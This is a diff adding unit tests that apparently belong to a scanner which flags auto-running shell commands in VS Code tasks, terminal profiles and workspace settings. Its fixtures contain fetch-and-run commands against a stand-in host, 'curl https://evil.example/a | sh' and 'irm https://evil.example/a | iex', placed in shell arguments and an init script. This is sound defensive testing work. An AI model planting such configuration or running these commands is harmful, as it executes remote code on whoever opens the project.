@@ -20,6 +20,7 @@ function find(path: string, text: string, { before, beside = {} }: { before?: st
 
 const hook = (command: string) =>
   json({ hooks: { SessionStart: [{ matcher: '*', hooks: [{ type: 'command', command }] }] } });
+const terminal = (more: object) => json({ 'editor.tabSize': 2, ...more });
 const task = (more: object) =>
   json({ version: '2.0.0', tasks: [{ label: 'a', type: 'shell', runOptions: { runOn: 'folderOpen' }, ...more }] });
 
@@ -150,6 +151,98 @@ describe('editors', () => {
       { trigger: 'container', command: 'npm start' },
       { trigger: 'container', signs: ['fetches-and-runs', 'reaches-out'] },
     ]);
+  });
+});
+
+describe('shells of VS Code', () => {
+  const evil = { executable: 'sh', args: ['-c', 'curl https://evil.example/a | sh', '--'] };
+  const term = 'whenever such a terminal is opened in VS Code';
+
+  it.each<readonly [string, string, readonly object[]]>([
+    [
+      'of a task that runs when the folder is opened',
+      task({ command: 'make', options: { shell: evil } }),
+      [{ command: 'make' }, { trigger: 'opening', at: '"sh"', signs: ['fetches-and-runs', 'reaches-out'] }],
+    ],
+    [
+      'of all tasks, on one system',
+      json({ windows: { options: { shell: { executable: '.\\\\tools\\\\cmd.exe' } } }, tasks: [{ label: 'a' }] }),
+      [{ trigger: 'work', when: 'with the tasks of VS Code' }],
+    ],
+    [
+      'of a task that somebody runs',
+      json({
+        tasks: [{ label: 'a', command: 'make', options: { shell: { executable: 'tools/bash', args: ['-c'] } } }],
+      }),
+      [{ trigger: 'work', command: 'tools/bash -c', signs: [] }],
+    ],
+  ])('start %s', (_, text, expected) => {
+    expect(find('.vscode/tasks.json', text)).toMatchObject(expected);
+  });
+
+  it.each<readonly [string, object, readonly object[]]>([
+    [
+      'profiles',
+      {
+        'terminal.integrated.profiles.linux': {
+          a: { path: ['/bin/bash', 'sh'], args: ['--init-file', '.vscode/init.sh'] },
+        },
+      },
+      [
+        {
+          when: term,
+          command: '/bin/bash --init-file .vscode/init.sh',
+          runs: '.vscode/init.sh',
+          signs: ['fetches-and-runs', 'reaches-out'],
+        },
+        { when: term, command: 'sh --init-file .vscode/init.sh' },
+      ],
+    ],
+    [
+      'the profile of tasks',
+      { 'terminal.integrated.automationProfile.osx': { path: `\${workspaceFolder}/.vscode/init.sh` } },
+      [{ when: 'whenever a task runs in VS Code', trigger: 'work', runs: '.vscode/init.sh' }],
+    ],
+    [
+      'a shell that VS Code looks for',
+      {
+        'terminal.integrated.profiles.windows': {
+          a: { source: 'PowerShell', args: '-NoExit -Command "irm https://evil.example/a | iex"' },
+        },
+      },
+      [
+        {
+          command: 'PowerShell -NoExit -Command "irm https://evil.example/a | iex"',
+          signs: ['fetches-and-runs', 'reaches-out'],
+        },
+      ],
+    ],
+    [
+      'old names',
+      {
+        'terminal.integrated.shell.linux': './bash',
+        'terminal.integrated.shellArgs.linux': ['-l'],
+        'terminal.integrated.automationShell.linux': '/usr/../work/sh',
+      },
+      [{ command: './bash -l' }, { command: '/usr/../work/sh' }],
+    ],
+  ])('start %s', (_, settings, expected) => {
+    const beside = { '.vscode/init.sh': 'curl https://evil.example/a | sh\n' };
+    expect(find('.vscode/settings.json', terminal(settings), { beside })).toMatchObject(expected);
+    expect(find('shop.code-workspace', json({ settings }), { beside })).toHaveLength(expected.length);
+  });
+
+  it.each<readonly [string, object]>([
+    ['profiles.linux', { bash: { path: '/usr/bin/bash', args: ['-l'] }, zsh: null, tmux: { path: 'tmux', icon: 'x' } }],
+    [
+      'profiles.windows',
+      { a: { source: 'Git Bash' }, b: { path: [`\${env:windir}\\System32\\cmd.exe`], args: ['/d', '/k'] } },
+    ],
+    ['automationProfile.osx', { path: '/opt/homebrew/bin/fish', args: ['--login'] }],
+  ])('are none where they are shells alone: %s', (key, value) => {
+    expect(find('.vscode/settings.json', terminal({ [`terminal.integrated.${key}`]: value }))).toEqual([]);
+    const shell = { executable: 'bash', args: ['-l', '-c'] };
+    expect(find('.vscode/tasks.json', task({ options: { shell } }))).toEqual([]);
   });
 });
 
